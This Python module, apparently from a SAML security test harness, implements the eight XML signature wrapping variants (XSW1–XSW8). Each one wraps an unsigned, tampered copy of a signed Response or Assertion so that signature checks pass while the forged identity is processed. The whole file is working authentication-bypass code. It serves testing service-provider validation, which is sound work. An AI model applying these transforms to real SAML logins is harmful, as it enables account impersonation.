"""The eight classic XML signature wrapping (XSW) variants on a SAML Response.

After Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012),
in the shapes SAML Raider generates: the signed element survives somewhere the signature check
finds it (inside ds:Signature, ds:Object, samlp:Extensions, a sibling or a child), while an
unsigned, altered copy sits where the application reads the identity. Each function changes the
signed ``response`` in place; ``tamper`` alters the copy the attacker wants processed.

XSW1 and XSW2 expect a signed Response; XSW3 to XSW8 a Response with a signed Assertion.
"""

from __future__ import annotations

import copy
from collections.abc import Callable

from lxml import etree

from .forged_idp import DS, SAML, SAMLP, assertion_of, q, signature_of

Tamper = Callable[[etree._Element], None]
EVIL_RESPONSE_ID = "_evil-response"
EVIL_ASSERTION_ID = "_evil-assertion"


def _without_signature(element: etree._Element) -> etree._Element:
    """A deep copy of ``element`` with its enveloped signature taken out."""
    clone = copy.deepcopy(element)
    clone.remove(signature_of(clone))
    return clone


def xsw1(response: etree._Element, tamper: Tamper) -> None:
    """The original Response, unsigned, inside the Signature of an altered Response (new ID)."""
    original = _without_signature(response)
    response.set("ID", EVIL_RESPONSE_ID)
    tamper(assertion_of(response))
    signature_of(response).append(original)


def xsw2(response: etree._Element, tamper: Tamper) -> None:
    """As XSW1, with the original Response a sibling just before the Signature (detached)."""
    original = _without_signature(response)
    response.set("ID", EVIL_RESPONSE_ID)
    tamper(assertion_of(response))
    signature_of(response).addprevious(original)


def xsw3(response: etree._Element, tamper: Tamper) -> None:
    """An altered, unsigned Assertion (new ID) inserted before the signed original."""
    assertion = assertion_of(response)
    evil = _without_signature(assertion)
    evil.set("ID", EVIL_ASSERTION_ID)
    tamper(evil)
    assertion.addprevious(evil)


def xsw4(response: etree._Element, tamper: Tamper) -> None:
    """An altered, unsigned Assertion (new ID) in place of the original, which is its child."""
    assertion = assertion_of(response)
    evil = _without_signature(assertion)
    evil.set("ID", EVIL_ASSERTION_ID)
    tamper(evil)
    response.replace(assertion, evil)
    evil.append(assertion)


def xsw5(response: etree._Element, tamper: Tamper) -> None:
    """The altered Assertion (new ID) keeps the signature; the original, unsigned, goes last."""
    assertion = assertion_of(response)
    evil = copy.deepcopy(assertion)
    evil.set("ID", EVIL_ASSERTION_ID)
    tamper(evil)
    response.replace(assertion, evil)
    response.append(_without_signature(assertion))


def xsw6(response: etree._Element, tamper: Tamper) -> None:
    """The altered Assertion (new ID) keeps the signature; the original, unsigned, inside it."""
    assertion = assertion_of(response)
    evil = copy.deepcopy(assertion)
    evil.set("ID", EVIL_ASSERTION_ID)
    tamper(evil)
    response.replace(assertion, evil)
    signature_of(evil).append(_without_signature(assertion))


def xsw7(response: etree._Element, tamper: Tamper) -> None:
    """An altered, unsigned copy (same ID) in samlp:Extensions ahead of the signed original."""
    assertion = assertion_of(response)
    evil = _without_signature(assertion)
    tamper(evil)
    extensions = etree.Element(q(SAMLP, "Extensions"))
    extensions.append(evil)
    # Schema order: Issuer, Signature, Extensions, Status.
    response.find(q(SAML, "Issuer")).addnext(extensions)


def xsw8(response: etree._Element, tamper: Tamper) -> None:
    """The altered Assertion keeps the signature; the original, unsigned, in a ds:Object in it."""
    assertion = assertion_of(response)
    evil = copy.deepcopy(assertion)
    evil.set("ID", EVIL_ASSERTION_ID)
    tamper(evil)
    response.replace(assertion, evil)
    signed_object = etree.SubElement(signature_of(evil), q(DS, "Object"))
    signed_object.append(_without_signature(assertion))


#: (variant, wraps a signed Response rather than a signed Assertion)
VARIANTS: dict[str, tuple[Callable[[etree._Element, Tamper], None], bool]] = {
    "XSW1": (xsw1, True),
    "XSW2": (xsw2, True),
    "XSW3": (xsw3, False),
    "XSW4": (xsw4, False),
    "XSW5": (xsw5, False),
    "XSW6": (xsw6, False),
    "XSW7": (xsw7, False),
    "XSW8": (xsw8, False),
}
